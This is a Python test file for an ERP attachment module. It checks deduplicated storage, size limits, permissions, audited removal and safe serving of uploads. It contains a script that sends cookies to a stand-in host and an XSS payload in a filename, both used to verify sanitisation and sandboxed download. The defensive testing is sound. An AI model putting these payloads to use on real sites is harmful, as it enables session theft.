"""Attachments: taken by their content, kept once, handed out so that nothing in them runs, removed with a reason."""

from datetime import timedelta
from io import BytesIO
from uuid import uuid4

import pytest
from sqlalchemy import text

from erp.dossier.api import Subject, attach_file, attachments_of, remove_attachment
from erp.dossier.attachments.forget_removed import forget_removed_files
from erp.dossier.attachments.queries import bytes_kept, content_of
from erp.kernel.actor import Actor
from erp.kernel.errors import Conflict, Forbidden, NotFound, Refused
from erp.organization.api import change_settings
from tests.builders.crm import a_customer, a_shop, an_order
from tests.builders.organization import a_branch, a_company
from tests.kit.web_client import form_on, post_form, signed_in, user_with_role

PDF = b"%PDF-1.7\n1 0 obj\n"
HTML = b"<!doctype html><script>document.location = 'https://evil.example/' + document.cookie</script>"


@pytest.fixture
def subject(work):
    company = a_company(work)
    return Subject("return_receipt", uuid4(), company.id, "inventory.return.view", (company.branch_id,))


def test_a_file_hangs_on_its_record_and_comes_back_byte_by_byte(work, subject):
    content = bytes(range(256)) * 40
    attachment_id = attach_file(work, subject, name="photo.jpg", content=b"\xff\xd8\xff" + content)
    (found,) = attachments_of(work.session, subject.kind, subject.id)
    assert (found.id, found.file_name, found.media_type) == (attachment_id, "photo.jpg", "image/jpeg")
    assert (found.size_bytes, found.attached_by) == (len(content) + 3, "test")
    assert content_of(work.session, found) == b"\xff\xd8\xff" + content


def test_the_same_content_is_kept_once(work, subject):
    for name in ("one.pdf", "two.pdf"):
        attach_file(work, subject, name=name, content=PDF)
    assert work.execute(text("SELECT count(*) FROM dossier.file_content")).scalar_one() == 1
    assert bytes_kept(work.session, subject.company_id) == 2 * len(PDF)


def test_the_settings_of_the_company_bound_one_file_and_all_of_them(work, subject):
    change_settings(work, subject.company_id, {"attachment_largest_mb": 1, "attachment_total_mb": 2})
    fits = b"%PDF-" + b"x" * (1024 * 1024 - 5)
    with pytest.raises(Refused, match="at most 1 MB"):
        attach_file(work, subject, name="a.pdf", content=fits + b"x")
    attach_file(work, subject, name="a.pdf", content=fits)
    attach_file(work, subject, name="b.pdf", content=fits)
    with pytest.raises(Refused, match="reached 2 MB"):
        attach_file(work, subject, name="c.pdf", content=PDF)


def test_a_setting_beyond_what_the_house_takes_is_refused(work, subject):
    with pytest.raises(Refused, match="at most 16"):
        change_settings(work, subject.company_id, {"attachment_largest_mb": 17})


def test_attaching_takes_seeing_the_record_and_the_right(work, subject):
    for held in ({"dossier.attachment.add"}, {"inventory.return.view"}):
        work.actor = Actor("someone", None, frozenset(held))
        with pytest.raises(Forbidden, match="for this record"):
            attach_file(work, subject, name="a.pdf", content=PDF)


def test_removing_says_who_and_why_and_closes_the_file(work, subject):
    attachment_id = attach_file(work, subject, name="a.pdf", content=PDF)
    with pytest.raises(Refused, match="why"):
        remove_attachment(work, subject, attachment_id, reason=" ")
    remove_attachment(work, subject, attachment_id, reason="someone else's bill")
    (found,) = attachments_of(work.session, subject.kind, subject.id)
    work.session.refresh(found)
    assert (found.removed_by, found.removed_reason) == ("test", "someone else's bill")
    with pytest.raises(NotFound, match="someone else's bill"):
        content_of(work.session, found)
    with pytest.raises(Conflict, match="already"):
        remove_attachment(work, subject, attachment_id, reason="again")
    reasons = work.execute(
        text("SELECT action, changed -> 'removed_reason' ->> 1 FROM kernel.audit_entry "
             "WHERE table_name = 'dossier.attachment' AND row_key = :id ORDER BY id"), {"id": str(attachment_id)},
    ).all()  # fmt: skip
    assert [tuple(row) for row in reasons] == [("insert", None), ("update", "someone else's bill")]


def test_what_was_removed_is_forgotten_after_the_days_of_grace_unless_it_hangs_elsewhere(work, subject):
    other = Subject("quote", uuid4(), subject.company_id, "crm.quote.view")
    alone = attach_file(work, subject, name="a.pdf", content=PDF)
    shared = attach_file(work, subject, name="b.txt", content=b"words")
    attach_file(work, other, name="b.txt", content=b"words")
    for attachment_id in (alone, shared):
        remove_attachment(work, subject, attachment_id, reason="old")
    work.now += timedelta(days=89)
    assert forget_removed_files(work) == 0
    work.now += timedelta(days=2)
    assert forget_removed_files(work) == 2
    kept = work.execute(text("SELECT content FROM dossier.file_content")).scalars().all()
    assert [bytes(content) for content in kept] == [b"words"]
    assert bytes_kept(work.session, subject.company_id) == len(b"words")
    assert [found.file_name for found in attachments_of(work.session, subject.kind, subject.id)] == ["a.pdf", "b.txt"]


@pytest.fixture
def order(services, system):
    def build(work):
        shop = a_shop(work)
        return shop, an_order(work, shop, a_customer(work, shop.company), [(shop.item(work), 3)])

    shop, outcome = services.units.run(system, build)
    return shop, f"/crm/orders/{outcome.id}", f"/dossier/sales_order/{outcome.id}/attachments"


def send(client, action, page, name, content):
    held = form_on(client, page, action)
    return client.post(action, data={**held, "file": (BytesIO(content), name)}, content_type="multipart/form-data")


def the_file(services):
    with services.engine.connect() as connection:
        return connection.execute(text("SELECT id, file_name FROM dossier.attachment ORDER BY id DESC LIMIT 1")).one()


def test_a_page_of_script_is_handed_out_harmlessly(order, client_as, services):
    _shop, page, action = order
    sales = client_as("sales")
    answer = send(sales, action, page, "'><img src=x onerror=alert(1)>.html", HTML)
    assert answer.headers["Location"] == f"{page}#attachments"
    found = the_file(services)
    assert found.file_name == "'__img src=x onerror=alert(1)_.html.txt"
    shown = sales.get(page).text
    assert "<img src=x" not in shown
    given = sales.get(f"/dossier/attachments/{found.id}")
    assert given.data == HTML
    assert given.headers["Content-Type"].partition(";")[0] == "text/plain"
    assert given.headers["Content-Disposition"].startswith("attachment;")
    assert given.headers["Content-Security-Policy"].startswith("sandbox; default-src 'none'")
    assert given.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in given.headers["Cache-Control"]


@pytest.mark.parametrize(("name", "content", "said"), [
    ("bill.pdf", b"MZ\x90\x00 a program", "no file we keep"),
    ("empty.pdf", b"", "empty"),
    ("large.pdf", b"%PDF-" + b"x" * 11 * 1024 * 1024, "at most 10 MB"),
])  # fmt: skip
def test_a_refused_file_says_why_on_the_page(order, client_as, services, name, content, said):
    _shop, page, action = order
    answer = send(client_as("sales"), action, page, name, content)
    assert answer.status_code == 422
    assert said in answer.text
    assert "Lines of this order" in answer.text, "the page it stood on"


def test_a_form_without_a_file_says_so(order, client_as):
    _shop, page, action = order
    answer = post_form(client_as("sales"), action, {}, page=page)
    assert answer.status_code == 422
    assert "Choose a file." in answer.text


def test_a_name_beyond_ascii_survives_the_way_back(order, client_as, services):
    _shop, page, action = order
    sales = client_as("sales")
    send(sales, action, page, "Übergabe 交付.pdf", PDF)
    given = sales.get(f"/dossier/attachments/{the_file(services).id}")
    assert "filename*=UTF-8''%C3%9Cbergabe%20%E4%BA%A4%E4%BB%98.pdf" in given.headers["Content-Disposition"]


def test_the_same_form_sent_twice_attaches_once(order, client_as, services):
    _shop, page, action = order
    sales = client_as("sales")
    held = form_on(sales, page, action)
    for _ in range(2):
        data = {**held, "file": (BytesIO(PDF), "a.pdf")}
        assert sales.post(action, data=data, content_type="multipart/form-data").status_code == 303
    with services.engine.connect() as connection:
        assert connection.execute(text("SELECT count(*) FROM dossier.attachment")).scalar_one() == 1


def test_a_file_is_as_closed_as_its_record(order, client_as, services, system):
    shop, page, action = order
    sales = client_as("sales")
    send(sales, action, page, "a.pdf", PDF)
    elsewhere = services.units.run(system, lambda work: a_branch(work, shop.company.id))
    address = f"/dossier/attachments/{the_file(services).id}"
    assert client_as("branch_staff", elsewhere).get(address).status_code == 403
    assert sales.get(address).status_code == 200


def test_one_removes_ones_own_and_a_controller_any(order, client_as, app, services):
    _shop, page, action = order
    sales = client_as("sales")
    send(sales, action, page, "a.pdf", PDF)
    removal = f"/dossier/attachments/{the_file(services).id}/remove"
    colleague = signed_in(app, services, user_with_role(services, "sales", name="colleague"))
    assert removal not in colleague.get(page).text
    held = {**form_on(sales, page, removal), "reason": "not mine to remove"}
    held["csrf_token"] = form_on(colleague, page, action)["csrf_token"]
    assert colleague.post(removal, data=held).status_code == 403
    answer = post_form(client_as("controller"), removal, {"reason": "another customer's"}, page=page)
    assert answer.status_code == 303
    shown = sales.get(page).text
    assert "1 removed" in shown
    assert "another customer&#39;s" in shown
    gone = sales.get(removal.removesuffix("/remove"))
    assert gone.status_code == 404
    assert "another customer&#39;s" in gone.text
